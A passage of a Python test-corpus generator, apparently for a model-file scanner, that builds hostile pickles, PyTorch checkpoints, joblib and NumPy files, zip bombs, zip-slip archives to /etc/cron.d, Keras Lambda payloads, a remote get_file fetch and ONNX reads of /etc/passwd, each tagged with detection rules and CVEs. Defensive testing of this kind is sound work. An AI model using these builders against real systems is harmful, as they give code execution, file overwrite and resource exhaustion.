        ("dotted-proto2-not-split", call_global("pathlib", "os.system", proto=2), None,
         "before protocol 4 find_class does not split dots: the load fails"),
    ]


def _compat_ext_variants() -> list[tuple[str, Maker, tuple[str, ...], str | None, str]]:
    def ext(opcode: bytes, code: int, mod: str, name: str, arg: Any) -> Maker:
        def make(m: str) -> bytes:
            reg = Call(G("copyreg", "add_extension"), (mod, name, code))
            return pk(2, reg, b"0", opcode, (arg(m),), b"R")
        return make

    rext = ("PICKLE007", "PICKLE001")
    return [
        ("compat-builtin-eval", lambda m: pk(2, Call(G("__builtin__", "eval"), (py(m),))), R1U, "pickle",
         "protocol < 3: _compat_pickle maps __builtin__ to builtins"),
        ("compat-commands-getoutput", lambda m: pk(2, G("commands", "getoutput")(sh(m))), R1U, "pickle",
         "protocol < 3: _compat_pickle maps Python 2's commands to subprocess"),
        ("compat-proto3-unmapped", lambda m: pk(3, Call(G("__builtin__", "eval"), (py(m),))), R1U, None,
         "protocol 3 does not map __builtin__: the load fails"),
        ("ext1-registered", ext(b"\x82\xf1", 0xF1, "os", "system", sh), rext, "pickle",
         "copyreg.add_extension('os', 'system', 241), then EXT1 241"),
        ("ext2-registered", ext(b"\x83" + struct.pack("<H", 0x1234), 0x1234, "subprocess", "call",
                                lambda m: ["touch", m]), rext, "pickle", "EXT2 through a registration"),
        ("ext4-registered", ext(b"\x84" + _u32(0x12345678), 0x12345678, "posix", "system", sh), rext,
         "pickle",
         "EXT4 through a registration"),
        ("ext1-unregistered", lambda m: pk(2, b"\x82\xee", sh(m), b"\x85R"), ("PICKLE007",), None,
         "EXT1 of a code nobody registered: the load fails"),
    ]


def _nested_variants() -> list[tuple[str, Maker, str]]:
    """A pickle passed to a loads() function by the outer pickle (PICKLE006)."""
    def inner(m: str) -> bytes:
        return dumps(os_system(m))

    def loads(arg: Any, fn: G = G("pickle", "loads")) -> Call:
        return Call(fn, (arg,))

    def comp(mod: str, f: Callable[[bytes], bytes], fname: str = "decompress") -> Maker:
        return lambda m: dumps(loads(Call(G(mod, fname), (f(inner(m)),))))

    def npy(m: str) -> bytes:
        return npy_header("|O", (1,)) + inner(m)

    def two_deep(m: str) -> bytes:
        mid = dumps(loads(Call(G("base64", "b64decode"), (base64.b64encode(inner(m)).decode(),))), 4)
        return dumps(loads(mid))

    return [
        ("nested-pickle-loads", lambda m: dumps(loads(inner(m))), "pickle.loads(bytes)"),
        ("nested-c-pickle-loads", lambda m: dumps(loads(inner(m), G("_pickle", "loads"))), "_pickle.loads"),
        ("nested-pure-pickle-loads", lambda m: dumps(loads(inner(m), G("pickle", "_loads"))),
         "pickle._loads"),
        ("nested-base64", lambda m: dumps(loads(Call(G("base64", "b64decode"),
                                                     (base64.b64encode(inner(m)).decode(),)))), ""),
        ("nested-zlib", comp("zlib", zlib.compress), ""),
        ("nested-bz2", comp("bz2", bz2.compress), ""),
        ("nested-lzma", comp("lzma", lzma.compress), ""),
        ("nested-gzip", comp("gzip", gzip.compress), ""),
        ("nested-codecs-base64", lambda m: dumps(loads(G("codecs", "decode")(base64.encodebytes(inner(m)),
                                                                              "base64"))), ""),
        ("nested-hex", lambda m: dumps(loads(G("binascii", "unhexlify")(inner(m).hex()))), ""),
        ("nested-proto0-text", lambda m: dumps(loads(G("_codecs", "encode")(
            dumps(os_system(m), 0).decode("latin1"), "latin1"))),
         "a protocol 0 text pickle carried as str"),
        ("nested-two-deep", two_deep, "a nested pickle that itself carries a nested pickle"),
        ("nested-unpickler-load",
         lambda m: dumps(methodcaller("load")(G("pickle", "Unpickler")(bytesio(inner(m))))),
         "pickle.Unpickler(io.BytesIO(b)).load() through methodcaller"),
        ("nested-joblib-load", lambda m: dumps(G("joblib", "load")(bytesio(inner(m)))), ""),
        ("nested-numpy-load", lambda m: dumps(KwCall(G("numpy", "load"), (bytesio(npy(m)),),
                                                     {"allow_pickle": True})), "an object .npy inside"),
        ("nested-torch-load", lambda m: dumps(KwCall(G("torch", "load"), (bytesio(torch_zip(inner(m))),),
                                                     {"weights_only": False})), "a torch checkpoint inside"),
    ]


def add_plain_pickles(c: Corpus) -> None:
    suffixes = [".pkl", ".pickle", ".bin", ".dat", ""]
    for i, (tid, expr, rules, note) in enumerate(CALLS):
        proto = (2, 3, 4, 5)[i % 4]
        c.add("pickle", f"pickle-{tid}", f"model{suffixes[i % len(suffixes)]}",
              lambda m, e=expr, p=proto: dumps(e(m), p, frame=p >= 4), rules, "pickle",
              f"protocol {proto}" + (f"; {note}" if note else ""))
    for tid, expr, rules, note in NOT_RUN:
        c.add("pickle", f"pickle-{tid}", "model.pkl", lambda m, e=expr: dumps(e(m)), rules, None, note)
    for tid, make, note in _proto_variants():
        c.add("pickle", f"pickle-{tid}", "model.pkl", make, R1, "pickle", note)
    for tid, make, rules, note in _structure_variants():
        c.add("pickle", f"pickle-{tid}", "model.pkl", make, rules, "pickle", note)
    for tid, make, loader, note in _traversal_variants():
        c.add("pickle", f"pickle-{tid}", "model.pkl", make, RTRAV, loader, note)
    for tid, make, rules, loader, note in _compat_ext_variants():
        c.add("pickle", f"pickle-{tid}", "model.pkl", make, rules, loader, note)
    for tid, make, note in _nested_variants():
        c.add("pickle", f"pickle-{tid}", "model.pkl", make, RNEST, "pickle", note)
    c.add("pickle", "pickle-second-pickle", "model.pkl", lambda m: dumps({"ok": 1}) + dumps(os_system(m)),
          RMORE,
          None, "a benign pickle, then a hostile one: pickle.load reads only the first")
    c.add("pickle", "pickle-third-pickle", "model.pkl",
          lambda m: dumps(1) + dumps([]) + dumps(os_system(m), 4), RMORE, None, "hostile third pickle")


# ================================================================ family: pickle in PyTorch, joblib, NumPy

def hostile_state_dict(m: str, prefix: str = "archive") -> bytes:
    """A real-looking torch.save checkpoint (Linear state dict with storages) whose data.pkl runs
    the payload first."""
    sd, storages = state_dict(prefix)
    return torch_zip(inject(dumps(sd), os_system(m)), prefix, storages)


def state_dict_extra_key(m: str) -> bytes:
    sd, storages = state_dict()
    sd["_metadata"] = Call(G("subprocess", "check_call"), (["touch", m],))
    return torch_zip(dumps(sd), extra=storages)


def torchscript_zip(data_pkl: bytes, constants_pkl: bytes) -> bytes:
    p = "model"
    return zip_of({f"{p}/data.pkl": data_pkl, f"{p}/constants.pkl": constants_pkl,
                   f"{p}/code/__torch__/model.py": b"class Model(Module):\n  __parameters__ = []\n",
                   f"{p}/version": b"3\n"})


def add_torch(c: Corpus) -> None:
    note = "torch.load(weights_only=False) runs data.pkl"
    for tid, name in [("pt", "model.pt"), ("pth", "model.pth"), ("bin", "pytorch_model.bin"),
                      ("ckpt", "last.ckpt"), ("no-suffix", "model")]:
        c.add("pickle", f"torch-zip-{tid}", name, lambda m: torch_zip(dumps(os_system(m))), R1, "torch", note)
    for tid, prefix in [("model", "model"), ("custom", "resnet50_v1.5-final"), ("short", "x")]:
        c.add("pickle", f"torch-zip-prefix-{tid}", "model.pt",
              lambda m, p=prefix: torch_zip(dumps(Call(G("builtins", "exec"), (py(m),))), p), R1, "torch",
              f"archive folder named {prefix!r}")
    c.add("pickle", "torch-zip-deflated", "model.pt",
          lambda m: torch_zip(dumps(os_system(m)), method=zipfile.ZIP_DEFLATED), R1, "torch",
          "data.pkl deflated")
    c.add("pickle", "torch-zip-injected-state-dict", "model.pt", hostile_state_dict, R1, "torch",
          "a real Linear state dict with storages; payload injected after PROTO")
    c.add("pickle", "torch-zip-state-dict-extra-key", "model.pt", state_dict_extra_key, R1, "torch",
          "the payload is one more value in the state dict")
    c.add("pickle", "torch-zip-proto4", "model.pt",
          lambda m: torch_zip(dumps(Call(G("builtins", "exec"), (py(m),)), 4, frame=True)), R1, "torch", "")
    c.add("pickle", "torch-zip-getattr-chain", "model.pt",
          lambda m: torch_zip(dumps(getattr_(G("builtins", "__import__")("os"), "system")(sh(m)))),
          RDYN, "torch", "")
    c.add("pickle", "torch-zip-nested-pickle", "model.pt",
          lambda m: torch_zip(dumps(Call(G("pickle", "loads"), (dumps(os_system(m)),)))), RNEST, "torch", "")
    c.add("pickle", "torch-zip-extra-member", "model.pt",
          lambda m: torch_zip(dumps({}), extra={"archive/extra.pkl": dumps(os_system(m))}),
          ("PICKLE001", "PICKLE008"), None, "a pickle member torch.load never reads")
    c.add("pickle", "torchscript-constants-pkl", "model.pt",
          lambda m: torchscript_zip(dumps({}), dumps(os_system(m))), R1, None,
          "torch.load hands TorchScript zips to torch.jit.load, whose C++ unpickler refuses Python globals")
    c.add("pickle", "torchscript-data-pkl", "model.pt",
          lambda m: torchscript_zip(dumps(os_system(m)), dumps(())), R1, None, "as above, hostile data.pkl")
    labels = ["magic", "protocol", "sys-info", "data", "storage-keys"]
    for i, label in enumerate(labels):
        c.add("pickle", f"torch-legacy-hostile-{label}", "model.pt",
              lambda m, i=i: legacy_torch(i, dumps(os_system(m))), R1, "torch-legacy",
              f"legacy torch.save file: pickle {i + 1} of 5 is hostile; torch.load reads all five")
    c.add("pickle", "torch-legacy-proto0-data", "model.pth",
          lambda m: legacy_torch(3, dumps(G("subprocess", "call")(["touch", m]), 0)), R1, "torch-legacy",
          "protocol 0 data pickle")


def _joblib_dump(compress: Any) -> bytes:
    import joblib
    import numpy as np
    buf = io.BytesIO()
    joblib.dump({"coef": np.arange(6.0).reshape(2, 3), "classes": np.array([0, 1])}, buf, compress=compress)
    return buf.getvalue()


def add_joblib(c: Corpus) -> None:
    def zfile(p: bytes) -> bytes:
        return b"ZF" + f"{len(p):#x}".encode().ljust(19) + zlib.compress(p)

    def xz(p: bytes) -> bytes:
        return lzma.compress(p, format=lzma.FORMAT_XZ)

    def alone(p: bytes) -> bytes:
        return lzma.compress(p, format=lzma.FORMAT_ALONE)

    wraps: list[tuple[str, Callable[[bytes], bytes]]] = [
        ("raw", lambda p: p), ("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress),
        ("xz", xz), ("lzma", alone), ("compat-zfile", zfile)]
    for tid, wrap in wraps:
        c.add("pickle", f"joblib-{tid}", "model.joblib", lambda m, w=wrap: w(dumps(os_system(m), 4)), R1,
              "joblib", f"joblib.load detects {tid} by its magic bytes")
    c.add("pickle", "joblib-numpy-wrapper-injected", "model.joblib",
          lambda m: inject(_joblib_dump(0), os_system(m)), R1, "joblib",
          "a real joblib.dump (NumpyArrayWrapper and inline array bytes), payload injected")
    c.add("pickle", "joblib-numpy-wrapper-injected-zlib", "model.joblib",
          lambda m: zlib.compress(inject(zlib.decompress(_joblib_dump(("zlib", 3))), os_system(m))), R1,
          "joblib", "the same, zlib-compressed")


def add_numpy(c: Corpus) -> None:
    def npy(m: str, version: int = 1, shape: tuple[int, ...] = (1,), fortran: bool = False) -> bytes:
        return npy_header("|O", shape, version, fortran) + dumps(os_system(m), 3)

    note = "np.load(allow_pickle=True) unpickles object arrays"
    r = ("PICKLE001", "PICKLE008")
    for v in (1, 2, 3):
        c.add("pickle", f"npy-object-v{v}", "array.npy", lambda m, v=v: npy(m, v), r, "numpy",
              f"{note}; header v{v}.0")
    c.add("pickle", "npy-object-fortran", "array.npy", lambda m: npy(m, fortran=True), r, "numpy", note)
    c.add("pickle", "npy-object-0d", "array.npy", lambda m: npy(m, shape=()), r, "numpy", note)
    c.add("pickle", "npz-stored", "arrays.npz", lambda m: zip_of({"arr_0.npy": npy(m)}), r, "numpy",
          "np.load of an .npz unpickles a member when it is read")
    c.add("pickle", "npz-deflated", "arrays.npz", lambda m: zip_of({"w.npy": npy(m)}, zipfile.ZIP_DEFLATED),
          r,
          "numpy", "")
    numeric = npy_header("<f4", (3,)) + struct.pack("<3f", 1, 2, 3)
    c.add("pickle", "npz-second-member", "arrays.npz",
          lambda m: zip_of({"weight.npy": numeric, "bias.npy": npy(m)}), r, "numpy", "hostile second member")


# ================================================================ family: archive

def torch_entries(data_pkl: bytes | None = None, prefix: str = "archive") -> list[ZipEntry]:
    return [ZipEntry(f"{prefix}/data.pkl", data_pkl if data_pkl is not None else dumps({"w": [0.5]})),
            ZipEntry(f"{prefix}/byteorder", b"little"), ZipEntry(f"{prefix}/version", b"3\n")]


def with_member(entry: ZipEntry, data_pkl: bytes | None = None) -> bytes:
    return zip_bytes([*torch_entries(data_pkl), entry])


def zeros_bomb(mib: int) -> ZipEntry:
    """`mib` MiB of zeros, deflated (about 1 KiB per MiB)."""
    co, crc, chunk = zlib.compressobj(9, zlib.DEFLATED, -15), 0, bytes(1 << 20)
    packed = bytearray()
    for _ in range(mib):
        packed += co.compress(chunk)
        crc = zlib.crc32(chunk, crc)
    packed += co.flush()
    return ZipEntry("archive/data/0", b"", method=8, crc=crc, usize=mib << 20, packed=bytes(packed))


def many_members_bomb() -> bytes:
    """100 members of 1 MiB of zeros (about 1 KiB each on disk)."""
    one = zeros_bomb(1)
    extra = [ZipEntry(f"archive/data/{i}", b"", 8, crc=one.crc, usize=one.usize, packed=one.packed)
             for i in range(100)]
    return zip_bytes(torch_entries() + extra)


def overlap_bomb() -> bytes:
    """4200 central entries sharing one local member of 1 MiB: 4.1 GiB declared in 300 KB."""
    one = zeros_bomb(1)
    extra = [ZipEntry(f"archive/data/{i}", b"", 8, crc=one.crc, usize=one.usize, packed=one.packed,
                      same_data_as=3 if i else None) for i in range(4200)]
    return zip_bytes(torch_entries() + extra)


def duplicate_data_pkl(m: str) -> bytes:
    e = torch_entries(dumps(os_system(m)))
    return zip_bytes([e[0], ZipEntry("archive/data.pkl", dumps({"w": [0.5]})), *e[1:]])


def overlap_data_pkl(m: str) -> bytes:
    e = torch_entries(dumps(os_system(m)))
    return zip_bytes([*e, ZipEntry("archive/extra.pkl", b"", same_data_as=0)])


def legacy_tar(hostile_member: str, payload: bytes) -> bytes:
    members = {"sys_info": dumps(SYS_INFO), "storages": dumps(0) + dumps([]), "tensors": dumps(0),
               "pickle": dumps({})}
    members[hostile_member] = payload if hostile_member != "storages" else payload + dumps([])
    return tar_of(members)


def add_archive(c: Corpus) -> None:
    def one(tid: str, make: Maker, rules: tuple[str, ...], loader: str | None = None, note: str = "") -> None:
        c.add("archive", f"archive-{tid}", "model.pt", make, rules, loader, note)

    txt = b"notes\n"
    slip = "zip slip: extraction writes outside the target folder"
    for tid, name in [("dotdot", "archive/../../../evil.sh"), ("absolute", "/etc/cron.d/evil"),
                      ("drive-letter", "C:\\Windows\\System32\\evil.dll"),
                      ("backslash-dotdot", "..\\..\\evil.bat")]:
        one(f"traversal-{tid}", lambda m, n=name: with_member(ZipEntry(n, b"#!/bin/sh\n")), ("ARCHIVE001",),
            note=slip)
    one("name-mismatch",
        lambda m: with_member(ZipEntry("archive/notes.txt", txt, central_name="archive/n.md")),
        ("ARCHIVE002",))
    one("name-mismatch-hides-data-pkl",
        lambda m: zip_bytes([ZipEntry("archive/data.txt", dumps(os_system(m)),
                                      central_name="archive/data.pkl"),
                             *torch_entries()[1:]]), ("ARCHIVE002", "PICKLE001"), "torch",
        "CVE-2025-1944: local header says data.txt, central directory data.pkl; torch reads the central name")
    one("method-mismatch", lambda m: with_member(ZipEntry("archive/notes.txt", txt, central_method=8)),
        ("ARCHIVE002",))
    one("duplicate-names", lambda m: zip_bytes([*torch_entries(), ZipEntry("archive/n.txt", txt),
                                                 ZipEntry("archive/n.txt", b"other\n")]), ("ARCHIVE003",))
    one("duplicate-data-pkl", duplicate_data_pkl, ("ARCHIVE003", "PICKLE001"), "torch",
        "two data.pkl members: Python's zipfile gives the last (a dict); torch reads the first")
    one("overlap",
        lambda m: zip_bytes([*torch_entries(), ZipEntry("archive/extra.bin", b"", same_data_as=0)]),
        ("ARCHIVE004",), note="CVE-2024-0450 family: two members share one local header")
    one("overlap-data-pkl", overlap_data_pkl, ("ARCHIVE004", "PICKLE001"), "torch", "")
    one("crc-mismatch", lambda m: with_member(ZipEntry("archive/notes.txt", txt, crc=0xDEADBEEF)),
        ("ARCHIVE005",))
    one("crc-mismatch-data-pkl",
        lambda m: zip_bytes([ZipEntry("archive/data.pkl", dumps(os_system(m)), crc=0x12345678),
                             *torch_entries()[1:]]), ("ARCHIVE005", "PICKLE001"), "torch",
        "CVE-2025-10156: a bad CRC made picklescan skip the member; torch does not check it")
    one("bomb-ratio", lambda m: zip_bytes([*torch_entries(), zeros_bomb(100)]), ("ARCHIVE006",),
        note="100 MiB of zeros in about 100 KiB")
    one("bomb-declared-size", lambda m: with_member(ZipEntry("archive/data/0", bytes(1000), method=8,
                                                             usize=0xFFFFFFFF)), ("ARCHIVE006",),
        note="declares 4 GiB uncompressed")
    one("bomb-many-members", lambda m: many_members_bomb(), ("ARCHIVE006",),
        note="100 members of 1 MiB of zeros")
    one("bomb-overlapping", lambda m: overlap_bomb(), ("ARCHIVE006", "ARCHIVE004"),
        note="CVE-2024-0450 family: entries share one compressed member; 4.1 GiB declared")
    one("encrypted-member", lambda m: with_member(ZipEntry("archive/secret.bin", os.urandom(12) + b"x" * 20,
                                                           flags=1)), ("ARCHIVE007",))
    one("encrypted-flag-data-pkl",
        lambda m: zip_bytes([ZipEntry("archive/data.pkl", dumps(os_system(m)), flags=1),
                             *torch_entries()[1:]]),
        ("ARCHIVE007", "PICKLE001"), None,
        "CVE-2025-1945 family: flag bits that make Python's zipfile refuse the member")
    one("nested-zip",
        lambda m: with_member(ZipEntry("archive/extra/inner.pt", torch_zip(dumps(os_system(m))))),
        ("ARCHIVE008", "PICKLE001"), note="a hostile checkpoint inside a checkpoint")
    one("nested-gzip",
        lambda m: with_member(ZipEntry("archive/extra.pkl.gz", gzip.compress(dumps(os_system(m))))),
        ("ARCHIVE008", "PICKLE001"))
    one("nested-tar",
        lambda m: with_member(ZipEntry("archive/extra.tar", tar_of({"p.pkl": dumps(os_system(m))}))),
        ("ARCHIVE008", "PICKLE001"))
    one("pickle-zip-polyglot", lambda m: dumps(os_system(m)) + torch_zip(dumps({})),
        ("ARCHIVE009", "PICKLE001"), "pickle",
        "a hostile pickle with a checkpoint appended: pickle.load (and torch.load's legacy path) "
        "run the pickle")
    one("zip-with-pickle-prefix",
        lambda m: zip_bytes(torch_entries(dumps(os_system(m))), prefix=dumps({"ok": 1})),
        ("ARCHIVE009", "PICKLE001"), None,
        "a benign pickle before a zip whose data.pkl is hostile (zip readers that allow a prefix see it)")
    one("zip-then-pickle", lambda m: zip_bytes(torch_entries(), trailing=dumps(os_system(m))),
        ("PICKLE008", "FORMAT002", "ARCHIVE009"), None, "a pickle after the end of central directory")
    one("zip-comment-pickle", lambda m: zip_bytes(torch_entries(), comment=dumps(os_system(m))),
        ("PICKLE008", "FORMAT002", "ARCHIVE009"), None, "a pickle in the zip comment")
    c.add("archive", "archive-legacy-tar-storages", "model.tar",
          lambda m: legacy_tar("storages", dumps(os_system(m))), ("ARCHIVE010", "PICKLE001"), "torch-legacy",
          "legacy tar torch.save; the storages pickle is hostile")
    c.add("archive", "archive-legacy-tar-pickle", "model.pt",
          lambda m: legacy_tar("pickle", dumps(os_system(m))), ("ARCHIVE010", "PICKLE001"), "torch-legacy",
          "legacy tar torch.save; the 'pickle' member is hostile")


# ================================================================ family: keras

KDTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"},
          "registered_name": None}


def _find_code(code: Any, name: str) -> Any:
    for const in code.co_consts:
        if hasattr(const, "co_code"):
            if const.co_name == name:
                return const
            found = _find_code(const, name)
            if found is not None:
                return found
    return None


def lambda_fn(src: str, closure: list | None = None, packed_defaults: list | None = None) -> dict:
    """A Keras `__lambda__` function config: the first lambda in `src`, marshalled and base64'd
    (what keras' func_dump writes). `packed_defaults`: the older [code, defaults, closure] form."""
    code = _find_code(compile(src, "<lambda>", "exec"), "<lambda>")
    b64: Any = base64.encodebytes(marshal.dumps(code)).decode()
    if packed_defaults is not None:
        b64 = [b64, packed_defaults, closure]
    return {"class_name": "__lambda__", "config": {"code": b64, "defaults": None, "closure": closure}}


def named_fn(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": None}


def input_layer(name: str = "input_layer") -> dict:
    return {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
            "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False,
                       "name": name, "optional": False}}


def lambda_layer(function: dict, name: str = "lambda", arguments: dict | None = None) -> dict:
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": KDTYPE, "function": function,
                       "arguments": arguments or {}},
            "build_config": {"input_shape": [None, 4]}}


def sequential(layers: list[dict], name: str = "sequential") -> dict:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": KDTYPE, "layers": layers,
                       "build_input_shape": [None, 4]},
            "build_config": {"input_shape": [None, 4]}}


def functional(lam: dict) -> dict:
    inp = {**input_layer("x"), "name": "x", "inbound_nodes": []}
    node = {"args": [{"class_name": "__keras_tensor__",
                      "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["x", 0, 0]}}],
            "kwargs": {"mask": None}}
    lam = {**lam, "name": lam["config"]["name"], "inbound_nodes": [node]}
    return {"module": "keras.src.models.functional", "class_name": "Functional",
            "registered_name": "Functional",
            "config": {"name": "fn", "trainable": True, "layers": [inp, lam], "input_layers": ["x", 0, 0],
                       "output_layers": [lam["name"], 0, 0]},
            "build_config": {"input_shape": None}}


def _h5(fill: Callable[[Any], None]) -> bytes:
    import h5py
    buf = io.BytesIO()
    with h5py.File(buf, "w") as h:
        fill(h)
    return buf.getvalue()


def keras_zip(cfg: dict, var_groups: Iterable[str]) -> bytes:
    """A .keras file: metadata.json, config.json and a weights file with empty variable groups."""
    def fill(h: Any) -> None:
        for g in var_groups:
            h.create_group(g).attrs["name"] = g.split("/")[-2] if "/" in g else cfg["config"]["name"]
    meta = {"keras_version": "3.15.1", "date_saved": "2025-01-01@00:00:00"}
    return zip_of({"metadata.json": json.dumps(meta).encode(), "config.json": json.dumps(cfg).encode(),
                   "model.weights.h5": _h5(fill)})


def keras_h5(layers: list[dict]) -> bytes:
    """A legacy Keras HDF5 model (model_config attribute and model_weights group)."""
    legacy = [{"class_name": x["class_name"], "config": x["config"]} for x in layers]
    cfg = {"class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "dtype": KDTYPE,
                                                  "layers": legacy, "build_input_shape": [None, 4]}}
    names = [x["config"]["name"] for x in layers[1:]]

    def fill(h: Any) -> None:
        h.attrs["backend"], h.attrs["keras_version"] = "torch", "3.15.1"
        h.attrs["model_config"] = json.dumps(cfg)
        mw = h.create_group("model_weights")
        mw.attrs["layer_names"] = [n.encode() for n in names]
        for n in [*names, "top_level_model_weights"]:
            mw.create_group(n).attrs["weight_names"] = []
    return _h5(fill)


def _touch_src(m: str) -> str:
    return f"lambda x: (open({m!r}, 'w').close(), x)[1]"


def _system_src(m: str) -> str:
    return f"lambda x: (__import__('os').system({sh(m)!r}), x)[1]"


def _seq_lambda(fn: dict, arguments: dict | None = None) -> dict:
    return sequential([input_layer(), lambda_layer(fn, arguments=arguments)])


LAMBDA_VARS = ["layers/lambda/vars", "vars"]


def _output_shape_lambda(m: str) -> dict:
    """A Lambda whose function is a plain keras activation, and whose output_shape is the payload."""
    layer = lambda_layer(named_fn("keras.activations", "relu"))
    layer["config"]["output_shape"] = lambda_fn(f"lambda s: (open({m!r}, 'w').close(), s)[1]")
    return layer


def add_keras(c: Corpus) -> None:
    run = "keras.saving.load_model(safe_mode=False) builds the model, which calls the Lambda"
    rl = ("KERAS001",)
    closure_src = "def outer(p):\n    return lambda x: (open(p, 'w').close(), x)[1]\n"

    def nested_zip(m: str) -> bytes:
        inner = sequential([input_layer("inner_input"), lambda_layer(lambda_fn(_touch_src(m)))], "inner")
        return keras_zip(sequential([input_layer(), inner]),
                         ["layers/inner/layers/lambda/vars", "layers/inner/vars", "vars"])

    k = [("lambda-sequential", lambda m: keras_zip(_seq_lambda(lambda_fn(_touch_src(m))), LAMBDA_VARS)),
         ("lambda-os-system", lambda m: keras_zip(_seq_lambda(lambda_fn(_system_src(m))), LAMBDA_VARS)),
         ("lambda-packed-defaults", lambda m: keras_zip(_seq_lambda(
             lambda_fn("lambda x, p=None: (open(p, 'w').close(), x)[1]", packed_defaults=[m])), LAMBDA_VARS)),
         ("lambda-output-shape", lambda m: keras_zip(sequential([input_layer(), _output_shape_lambda(m)]),
                                                     LAMBDA_VARS)),
         ("lambda-closure", lambda m: keras_zip(_seq_lambda(lambda_fn(closure_src, closure=[m])),
                                                LAMBDA_VARS)),
         ("lambda-functional", lambda m: keras_zip(functional(lambda_layer(lambda_fn(_touch_src(m)), "lam")),
                                                   ["layers/lam/vars", "vars"])),
         ("lambda-nested-model", nested_zip)]
    for tid, make in k:
        c.add("keras", f"keras-{tid}", "model.keras", make, rl, "keras", run)
    for tid, src in [("h5-lambda", _touch_src), ("h5-lambda-os-system", _system_src)]:
        c.add("keras", f"keras-{tid}", "model.h5",
              lambda m, s=src: keras_h5([input_layer(), lambda_layer(lambda_fn(s(m)))]), rl, "keras-h5",
              "CVE-2025-9905 family: legacy HDF5 Lambda; " + run)
    get_file = lambda_layer(named_fn("keras.utils", "get_file"), arguments={
        "origin": "https://example.invalid/payload.h5", "cache_dir": "/tmp"})
    load_model = lambda_layer(named_fn("keras.saving", "load_model"),
                              arguments={"filepath": "https://example.invalid/m.keras"})
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
              "registered_name": None}
    custom = {"module": "evil_layers", "class_name": "Backdoor", "config": {"name": "bd"},
              "registered_name": "evil>Backdoor"}
    static: list[tuple[str, Callable[[str], dict], tuple[str, ...], str]] = [
        ("named-function-os-system", lambda m: _seq_lambda(named_fn("os", "system")),
         ("KERAS001", "KERAS002"),
         "a Lambda naming os.system; keras refuses modules outside keras"),
        ("custom-layer-module", lambda m: sequential([input_layer(), custom]), ("KERAS002",),
         "a layer class from an outside module"),
        ("get-file-lambda", lambda m: sequential([input_layer(), get_file]), ("KERAS003", "KERAS001"),
         "CVE-2025-8747: keras.utils.get_file in a config fetches a URL"),
        ("load-model-lambda", lambda m: sequential([input_layer(), load_model]), ("KERAS003", "KERAS001"),
         "a config that loads another model"),
        ("enable-unsafe-deserialization", lambda m: sequential([input_layer(), unsafe,
                                                                lambda_layer(lambda_fn(_touch_src(m)))]),
         ("KERAS001", "KERAS002", "KERAS003"),
         "CVE-2025-9906: config turns safe mode off, then a Lambda; keras 3.15 refuses it before the Lambda"),
    ]
    for tid, cfg, rules, note in static:
        c.add("keras", f"keras-{tid}", "model.keras", lambda m, f=cfg: keras_zip(f(m), ["vars"]), rules,
              None, note)
    c.add("keras", "keras-h5-get-file", "model.h5", lambda m: keras_h5([input_layer(), get_file]),
          ("KERAS003", "KERAS001"), None, "CVE-2025-8747 in a legacy HDF5 config")
    c.add("keras", "keras-h5-custom-layer", "model.h5", lambda m: keras_h5([input_layer(), custom]),
          ("KERAS002",), None, "a layer class keras does not know")


# ================================================================ family: onnx

def _onnx_model(nodes: list, inits: list, outputs: list[str], opsets: dict[str, int] | None = None,
                functions: list | None = None) -> bytes:
    from onnx import TensorProto, helper
    graph = helper.make_graph(nodes, "g", [], [helper.make_tensor_value_info(o, TensorProto.FLOAT, None)
                                               for o in outputs], initializer=inits)
    ops = [helper.make_opsetid(d, v) for d, v in {"": 17, **(opsets or {})}.items()]
    model = helper.make_model(graph, opset_imports=ops, functions=functions or [], producer_name="corpus")
    return model.SerializeToString()


def ext_tensor(name: str, location: str, length: int = 16) -> Any:
    from onnx import TensorProto
    t = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[length // 4],
                    data_location=TensorProto.EXTERNAL)
    for k, v in (("location", location), ("offset", "0"), ("length", str(length))):
        e = t.external_data.add()
        e.key, e.value = k, v
    return t


def onnx_external(location: str) -> bytes:
    from onnx import helper
    return _onnx_model([helper.make_node("Identity", ["w"], ["y"])], [ext_tensor("w", location)], ["y"])


def onnx_constant_external(location: str) -> bytes:
    from onnx import helper
    node = helper.make_node("Constant", [], ["y"], value=ext_tensor("c", location))
    return _onnx_model([node], [], ["y"])


def onnx_custom(where: str) -> bytes:
    from onnx import TensorProto, helper
    dom = "com.evil.ops"
    op = helper.make_node("Backdoor", ["x"], ["y"], domain=dom)
    x = helper.make_tensor("x", TensorProto.FLOAT, [1], [1.0])
    if where == "graph":
        return _onnx_model([op], [x], ["y"], {dom: 1})
    if where == "function":
        fn = helper.make_function("com.evil.fn", "Wrap", ["x"], ["y"], [op],
                                  [helper.make_opsetid("", 17), helper.make_opsetid(dom, 1)])
        call = helper.make_node("Wrap", ["x"], ["y"], domain="com.evil.fn")
        return _onnx_model([call], [x], ["y"], {dom: 1, "com.evil.fn": 1}, [fn])
    branch = helper.make_graph([helper.make_node("Backdoor", ["x"], ["z"], domain=dom)], "then", [],
                               [helper.make_tensor_value_info("z", TensorProto.FLOAT, None)])
    cond = helper.make_tensor("cond", TensorProto.BOOL, [], [True])
    node = helper.make_node("If", ["cond"], ["y"], then_branch=branch, else_branch=branch)
    return _onnx_model([node], [x, cond], ["y"], {dom: 1})


def add_onnx(c: Corpus) -> None:
    esc = ("ONNX001",)
    trav = "CVE-2022-25882 / CVE-2024-27318: external data read from outside the model folder"
    for tid, loc in [("dotdot", "../../etc/passwd"), ("absolute", "/etc/passwd"),
                     ("backslash", "..\\..\\Windows\\win.ini"),
                     ("normalized", "weights/../../../secret.bin")]:
        c.add_dir("onnx", f"onnx-external-{tid}",
                  lambda d, m, loc=loc: _write(d / "model.onnx", onnx_external(loc)),
                  esc, None, trav)
    c.add_dir("onnx", "onnx-external-in-constant", lambda d, m: _write(
        d / "model.onnx", onnx_constant_external("../../etc/passwd")), esc, None,
        "in a Constant node's tensor")
    c.add_dir("onnx", "onnx-external-symlink-file", _symlink_file, esc, None,
              "weights.bin links outside the folder")
